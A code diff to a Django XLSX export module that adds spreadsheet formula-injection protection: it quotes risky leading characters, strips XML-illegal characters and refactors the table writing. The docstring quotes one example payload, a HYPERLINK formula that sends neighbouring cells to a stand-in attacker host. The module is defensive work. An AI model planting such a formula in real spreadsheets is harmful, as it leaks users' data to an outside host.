@@ -1,4 +1,17 @@
-"""The one way a table leaves the system: an exporter writes XLSX with real numbers and dates."""
+"""The one way a table leaves the system: an exporter writes XLSX with real numbers and dates,
+and with text that is safe to open.
+
+Every cell of every XLSX we hand out goes through `xlsx_cell`. Text comes from users and from
+imported files, so two things are done to it:
+- a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading
+  apostrophe and stays a string cell, so that no spreadsheet takes it for a formula (OWASP
+  advice on CSV injection: `=HYPERLINK("http://evil.example/?leak="&B2)` would send the
+  neighbouring cells away when clicked);
+- characters XML cannot hold (a stray `\\x07` from a pasted text) are dropped: openpyxl refuses
+  them and the whole file would fail.
+Numbers, dates and empty cells are left as they are: a negative number stays a number.
+`restore_text` undoes the apostrophe, so a file we wrote reads back to the same text.
+"""
 
 from datetime import date, datetime
 from decimal import Decimal
@@ -7,10 +20,35 @@ from io import BytesIO
 from django.http import HttpResponse
 from django.utils import timezone
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+QUOTE = "'"
+DATE_FORMAT = "DD.MM.YYYY"
+DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
+MAX_WIDTH = 60
+
+
+def _quoted(text):
+    # Apostrophes already in front are counted in, so that `restore_text` gives back exactly
+    # the text that was written, even one a user began with an apostrophe.
+    return text.lstrip(QUOTE).startswith(FORMULA_PREFIXES)
+
+
+def safe_text(text):
+    """The text as a spreadsheet must receive it: never a formula, nothing XML cannot hold."""
+    text = ILLEGAL_CHARACTERS_RE.sub("", text)
+    return QUOTE + text if _quoted(text) else text
+
+
+def restore_text(value):
+    """A cell value as it was before `safe_text`; any other value unchanged."""
+    if isinstance(value, str) and value.startswith(QUOTE) and _quoted(value[1:]):
+        return value[1:]
+    return value
 
 
 def excel_value(value):
@@ -24,32 +62,70 @@ def excel_value(value):
         return local.replace(tzinfo=None)
     if isinstance(value, (int, float, Decimal, date)):
         return value
-    return str(value)
+    # An empty text is an empty cell: openpyxl would write a string cell without a string.
+    return safe_text(str(value)) or None
+
+
+def xlsx_cell(sheet, value):
+    """A cell of `sheet` holding `value`: numbers and dates typed and formatted, text safe."""
+    value = excel_value(value)
+    cell = Cell(sheet, value=value)
+    if isinstance(value, str):
+        cell.data_type = "s"  # openpyxl would make «#N/A» an error cell
+    elif isinstance(value, datetime):
+        cell.number_format = DATETIME_FORMAT
+    elif isinstance(value, date):
+        cell.number_format = DATE_FORMAT
+    return cell
+
+
+def append_row(sheet, values):
+    """Append a row below the last one and return its cells (to style them).
+
+    The sheet keeps its current row itself: nothing here rescans the sheet, so writing a table
+    takes time in proportion to its size."""
+    cells = [xlsx_cell(sheet, value) for value in values]
+    sheet.append(cells)
+    return cells
+
+
+def append_table(sheet, headers, rows):
+    """The header in bold, then the rows, an autofilter over the table and the header frozen.
+
+    Returns the rows of cells, the header first."""
+    header = append_row(sheet, [str(h) for h in headers])
+    for cell in header:
+        cell.font = Font(bold=True)
+    table = [header, *(append_row(sheet, row) for row in rows)]
+    first = header[0].row
+    sheet.auto_filter.ref = f"A{first}:{get_column_letter(len(header))}{first + len(table) - 1}"
+    sheet.freeze_panes = f"A{first + 1}"
+    return table
+
+
+def fit_widths(sheet, table):
+    """Columns as wide as their longest value, within MAX_WIDTH."""
+    widths = {}
+    for cells in table:
+        for index, cell in enumerate(cells, start=1):
+            length = min(len(str(cell.value or "")), MAX_WIDTH)
+            widths[index] = max(widths.get(index, 0), length)
+    for index, width in widths.items():
+        sheet.column_dimensions[get_column_letter(index)].width = width + 2
+
+
+def workbook_bytes(workbook):
+    buffer = BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
 
 
 def write_xlsx(headers, rows, title="Лист1"):
     workbook = Workbook()
     sheet = workbook.active
     sheet.title = title[:31]
-    sheet.append(list(headers))
-    for cell in sheet[1]:
-        cell.font = Font(bold=True)
-    widths = [len(str(h)) for h in headers]
-    for row in rows:
-        values = [excel_value(v) for v in row]
-        sheet.append(values)
-        for index, value in enumerate(values):
-            if isinstance(value, datetime):
-                sheet.cell(row=sheet.max_row, column=index + 1).number_format = "DD.MM.YYYY HH:MM"
-            elif isinstance(value, date):
-                sheet.cell(row=sheet.max_row, column=index + 1).number_format = "DD.MM.YYYY"
-            widths[index] = max(widths[index], min(len(str(value or "")), 60))
-    for index, width in enumerate(widths, start=1):
-        sheet.column_dimensions[get_column_letter(index)].width = width + 2
-    sheet.freeze_panes = "A2"
-    buffer = BytesIO()
-    workbook.save(buffer)
-    return buffer.getvalue()
+    fit_widths(sheet, append_table(sheet, headers, rows))
+    return workbook_bytes(workbook)
 
 
 def xlsx_response(filename, content):
